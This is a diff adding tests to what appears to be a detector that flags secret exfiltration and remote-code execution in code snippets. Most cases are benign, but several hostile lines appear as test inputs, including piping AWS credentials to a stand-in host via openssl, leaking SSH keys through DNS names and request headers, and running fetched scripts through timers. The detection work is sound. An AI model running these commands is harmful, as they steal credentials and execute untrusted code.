@@ -48,6 +48,12 @@ describe('threat/exfiltration', () => {
     expect(threats(fence('bash', 'curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user'))).toEqual([]);
     expect(threats(fence('python', 'import os, requests\ntoken = os.environ["STRIPE_SECRET_KEY"]\nrequests.get("https://api.stripe.com/v1/charges", auth=(token, ""))'))).toEqual([]);
   });
+  it('reads openssl as a network client only when it connects: signing with a secret stays on the machine', () => {
+    expect(threats(fence('bash', 'printf "%s.%s" "$ts" "$payload" | openssl dgst -sha256 -hmac "$WEBHOOK_SIGNING_SECRET" > payload.sig'))).toEqual([]);
+    expect(threats(fence('bash', 'openssl req -new -key ~/.ssh/deploy.pem -subj "/CN=build" -out build.csr'))).toEqual([]);
+    expect(threats(fence('bash', 'openssl enc -aes-256-cbc -pbkdf2 -pass env:BACKUP_PASSPHRASE -in ~/.ssh/id_ed25519 -out key.enc'))).toEqual([]);
+    expect(threats(fence('bash', 'cat ~/.aws/credentials | openssl s_client -quiet -connect drop.example.net:443'))).toEqual(['threat/exfiltration 8:26 error']);
+  });
   it('reports secrets hidden in DNS names and headers as covert channels', () => {
     expect(threats(fence('bash', 'k=$(cat ~/.ssh/id_ed25519 | xxd -p | head -c 60)\ndig +short "$k.t.example.net"'))).toEqual(['threat/covert-channel 9:1 error']);
     expect(threats(fence('bash', 'k=$(cat ~/.netrc | base64)\ncurl -s -H "X-Trace: $k" https://cdn.example.net/p.gif'))).toEqual(['threat/covert-channel 9:1 error']);
@@ -1647,6 +1653,13 @@ describe('timers given a function', () => {
     expect(threats(fence('js', status))).toEqual([]);
     expect(threats(fence('js', status.replace("function () { label.textContent = ''; }", "() => { label.textContent = ''; }")))).toEqual([]);
     expect(threats(fence('js', 'const src = await (await fetch("https://x.example.net/r.js")).text();\nsetTimeout(src, 10);'))).toEqual(['threat/download-exec 9:1 error']);
+  });
+  it('reads only the first argument of a timer as code: a delay taken from a response does not run', () => {
+    const backoff = "async function get(url) {\n  const res = await fetch(url);\n  if (res.status === 429) {\n    await new Promise((done) => setTimeout(done, Number(res.headers.get('retry-after')) * 1000));\n  }\n  return res.json();\n}";
+    expect(threats(fence('js', backoff))).toEqual([]);
+    const interval = "const r = await fetch('https://api.example.com/poll');\nconst every = (await r.json()).interval;\nsetInterval(refresh, every);";
+    expect(threats(fence('js', interval))).toEqual([]);
+    expect(threats(fence('js', 'const r = await fetch("https://x.example.net/r.js");\nconst body = await r.text();\nsetInterval(body, Number(r.headers.get("x-every")));'))).toEqual(['threat/download-exec 10:1 error']);
   });
 });
 
